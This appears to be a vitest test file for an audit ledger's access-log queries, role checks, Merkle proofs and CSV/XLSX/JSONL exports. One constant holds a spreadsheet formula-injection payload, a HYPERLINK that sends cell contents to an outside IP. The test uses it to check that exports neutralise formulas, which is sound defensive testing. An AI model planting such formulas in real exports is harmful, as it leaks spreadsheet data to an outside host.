import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { checkpointKeys, parseCheckpoint } from '../../src/ledger/checkpoint.ts'
import { leafHash } from '../../src/ledger/merkle.ts'
import { verifyInclusion } from '../../src/ledger/merkle-proofs.ts'
import { commitment } from '../../src/ledger/personal.ts'
import { openNote } from '../../src/ledger/signed-note.ts'
import { startTestHub, type TestHub } from '../testkit/hub.ts'

/** What a spreadsheet would run, as a case number that a caller chose. */
const FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1)'

const LOG = `query ($filter: AccessLogFilter) {
  accessLog(filter: $filter, first: 2) { totalCount edges { node { kind decision subject caseNumber note { name value } } } }
}`
const COUNTS = `query ($filter: AccessLogFilter, $by: AccessLogDimension, $bucket: TimeBucket, $first: Int) {
  accessLogCounts(filter: $filter, by: $by, bucket: $bucket, first: $first) { total hasMore counts { value at entries } }
}`

let hub: TestHub
beforeAll(async () => {
  hub = await startTestHub({}, { departments: [] })
  for (const caseNumber of [FORMULA, 'SQ-1', 'SQ-2'])
    await hub.ask('AUDITOR', LOG, { filter: { caseNumber } })
  await hub.ask('OFFICER', LOG, { filter: { purpose: 'OBJECTION' } })
})
afterAll(() => hub?.stop())

const download = (
  query: string,
  as: 'AUDITOR' | 'OFFICER' | null = 'AUDITOR',
  headers: Record<string, string> = {},
) =>
  fetch(`${hub.url}/ledger/export?${query}`, {
    headers: { ...(as === null ? {} : { authorization: `Bearer ${hub.token(as)}` }), ...headers },
  })
const exportsIn = async (filter: Record<string, unknown> = {}) => {
  const { data } = await hub.ask('AUDITOR', LOG, { filter: { kind: 'ACCESS_LOG_EXPORTED', ...filter } })
  return data.accessLog.edges.map(({ node }: { node: { note: { name: string; value: string }[] } }) => ({
    ...node,
    note: Object.fromEntries(node.note.map(({ name, value }) => [name, value])),
  }))
}

const Head = z.object({
  export: z.object({ number: z.string(), subject: z.string() }),
  checkpoint: z.object({ size: z.number(), rootHash: z.string(), note: z.string() }),
})
const Row = z.object({
  index: z.number(),
  leaf: z.string(),
  leafHash: z.string(),
  hashes: z.array(z.string()),
  openings: z
    .object({ salt: z.string(), fields: z.record(z.string(), z.union([z.string(), z.array(z.string())])) })
    .nullable(),
})

describe('finding in the access log', () => {
  test('counts all pages only where it is asked to', async () => {
    const { data } = await hub.ask('AUDITOR', LOG, { filter: { kind: 'ACCESS_LOG_READ', refusedOnly: true } })
    expect(data.accessLog.totalCount).toBe(1)
    expect(data.accessLog.edges).toHaveLength(1)
    const all = await hub.ask('AUDITOR', LOG, { filter: { caseNumber: 'SQ-1' } })
    // The look itself names the case too.
    expect(all.data.accessLog.totalCount).toBe(2)
  })

  test('counts by what entries say, over time, and the look stands in the ledger', async () => {
    const by = await hub.ask('AUDITOR', COUNTS, { by: 'DECISION', filter: { kind: 'ACCESS_LOG_READ' } })
    expect(by.data.accessLogCounts.counts[0]).toMatchObject({ value: 'GRANTED', at: null })
    expect(by.data.accessLogCounts.counts[1]).toEqual({ value: 'REFUSED', at: null, entries: 1 })
    const overTime = await hub.ask('AUDITOR', COUNTS, { bucket: 'MONTH' })
    const { counts, total } = overTime.data.accessLogCounts
    expect(counts.reduce((sum: number, one: { entries: number }) => sum + one.entries, 0)).toBe(total)
    expect(counts[0]).toMatchObject({ value: null, at: expect.stringMatching(/T16:00:00.000Z$/) })
    const { data } = await hub.ask('AUDITOR', LOG, { filter: { kind: 'ACCESS_LOG_READ' } })
    expect(data.accessLog.edges[1].node.note).toContainEqual({ name: 'bucket', value: 'MONTH' })
  })

  test('finds a household by a letter that is not there any more', async () => {
    const household = '01234567-89ab-4cde-8f01-23456789abcd'
    const { data, errors } = await hub.ask('AUDITOR', LOG, { filter: { household } })
    expect([data.accessLog.totalCount, errors]).toEqual([0, []])
  })

  test('is counted by nobody but auditors, and the refusal is recorded', async () => {
    const { errors } = await hub.ask('OFFICER', COUNTS, { by: 'SUBJECT' })
    expect(errors[0]?.extensions).toMatchObject({ reasonCode: 'ROLE_SEES_NO_LOG' })
    const { data } = await hub.ask('AUDITOR', LOG, { filter: { refusedOnly: true } })
    expect(data.accessLog.edges[0].node).toMatchObject({ kind: 'ACCESS_LOG_READ', decision: 'REFUSED' })
  })

  test('a filter that contradicts itself is refused with its place', async () => {
    const { errors } = await hub.ask('AUDITOR', LOG, { filter: { refusedOnly: true, decision: 'GRANTED' } })
    expect(errors[0]?.extensions).toMatchObject({ code: 'INPUT_INVALID' })
  })
})

describe('an export of the access log', () => {
  test('as JSON lines proves each of its rows to whoever holds the published keys', async () => {
    const response = await download('format=jsonl')
    expect(response.status).toBe(200)
    const lines = (await response.text()).trimEnd().split('\n')
    const head = Head.parse(JSON.parse(lines[0] ?? ''))
    const rows = lines.slice(1, -1).map((line) => Row.parse(JSON.parse(line)))
    expect(JSON.parse(lines.at(-1) ?? '')).toEqual({ end: head.export.number, rows: rows.length })
    expect(rows.map(({ index }) => index)).toEqual(Array.from({ length: head.checkpoint.size }, (_, i) => i))

    const jwks = (await (await fetch(`${hub.url}/.well-known/jwks.json`)).json()) as { keys: never[] }
    const opened = openNote(head.checkpoint.note, checkpointKeys(jwks.keys))
    const signed = opened === null ? null : parseCheckpoint(opened.text)
    expect(signed?.root.toString('base64')).toBe(head.checkpoint.rootHash)
    for (const { index, leaf, leafHash: named, hashes, openings } of rows) {
      expect(leafHash(leaf).toString('base64')).toBe(named)
      const proof = hashes.map((hash) => Buffer.from(hash, 'base64'))
      const claim = {
        index,
        size: signed?.size ?? 0,
        leaf: leafHash(leaf),
        proof,
        root: signed?.root ?? Buffer.alloc(0),
      }
      expect(verifyInclusion(claim)).toBe(true)
      for (const [field, value] of Object.entries(openings?.fields ?? {}))
        expect(JSON.parse(leaf).personal[field]).toBe(commitment(openings?.salt ?? '', field, value))
    }
    // The export itself is among them: it was recorded before its first byte.
    expect(JSON.parse(rows.at(-1)?.leaf ?? '')).toMatchObject({
      id: head.export.number,
      kind: 'ACCESS_LOG_EXPORTED',
    })
  })

  test('stands in the ledger twice: as it began, and with the hash of what was sent', async () => {
    const response = await download('format=csv&kind=ACCESS_LOG_READ')
    const body = Buffer.from(await response.arrayBuffer())
    const [ended, began] = await exportsIn()
    expect(began.note).toMatchObject({ state: 'STARTED', format: 'csv', kind: 'ACCESS_LOG_READ' })
    expect(ended.note).toMatchObject({
      state: 'FINISHED',
      export: response.headers.get('x-hedui-export'),
      sha256: createHash('sha256').update(body).digest('hex'),
      bytes: String(body.length),
    })
  })

  test('as CSV opens in Excel, runs no formula, and every row says who took it', async () => {
    const response = await download(`format=csv&caseNumber=${encodeURIComponent(FORMULA)}`)
    const text = Buffer.from(await response.arrayBuffer()).toString('utf8')
    expect(text.startsWith('\uFEFF')).toBe(true)
    const rows = z.array(z.record(z.string(), z.string())).parse(parse(text, { columns: true, bom: true }))
    expect(rows.length).toBeGreaterThan(0)
    for (const row of rows) {
      expect(row['案卷号 caseNumber']).toBe(`'${FORMULA}`)
      expect(row['导出水印 export']).toContain(response.headers.get('x-hedui-export'))
      expect(Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    }
  })

  test('as XLSX has the same rows, and its proofs are fetched for the same entries', async () => {
    const response = await download('format=xlsx&kind=ACCESS_LOG_READ')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await response.arrayBuffer())
    const sheet = workbook.getWorksheet('日志')
    const indexes = (sheet?.getColumn(1).values ?? []).filter((value) => typeof value === 'number')
    expect(indexes.length).toBeGreaterThan(3)
    expect(sheet?.headerFooter.oddFooter).toContain(response.headers.get('x-hedui-export'))
    expect(workbook.getWorksheet('说明')?.getCell('B2').value).toBe(response.headers.get('x-hedui-export'))
    const before = response.headers.get('x-hedui-checkpoint-size')
    const proofs = (
      await (await download(`format=proofs&kind=ACCESS_LOG_READ&before=${before}`)).text()
    ).trimEnd()
    const rows = proofs
      .split('\n')
      .slice(1, -1)
      .map((line) => JSON.parse(line))
    expect(rows.map(({ index }) => index)).toEqual(indexes)
    expect(rows[0]).not.toHaveProperty('leaf')
    expect(rows[0].hashes.length).toBeGreaterThan(0)
  })

  test('is for auditors alone, and attempts of others are recorded', async () => {
    expect((await download('format=csv', null)).status).toBe(401)
    const refused = await download('format=csv', 'OFFICER')
    expect(refused.status).toBe(403)
    expect(await exportsIn({ refusedOnly: true })).toMatchObject([{ decision: 'REFUSED' }])
  })

  test.each([
    ['', 'format'],
    ['format=pdf', 'format'],
    ['format=csv&kind=NOTHING', 'kind'],
    ['format=csv&from=yesterday', 'from'],
    ['format=csv&idNumber=990101199001011234', 'idNumber'],
    ['format=csv&before=-1', 'before'],
    ['format=csv&subject=a&subject=b', 'subject'],
  ])('is refused where the address has a fault: %s', async (query, path) => {
    const response = await download(query)
    expect(response.status).toBe(400)
    expect(await response.json()).toMatchObject({ errors: [{ extensions: { inputPath: path } }] })
  })

  test('finds a person by an ID number in a header, which must be one', async () => {
    const response = await download('format=csv', 'AUDITOR', { 'x-hedui-id-number': '99' })
    expect(await response.json()).toMatchObject({ errors: [{ extensions: { code: 'ID_NUMBER_INVALID' } }] })
  })
})
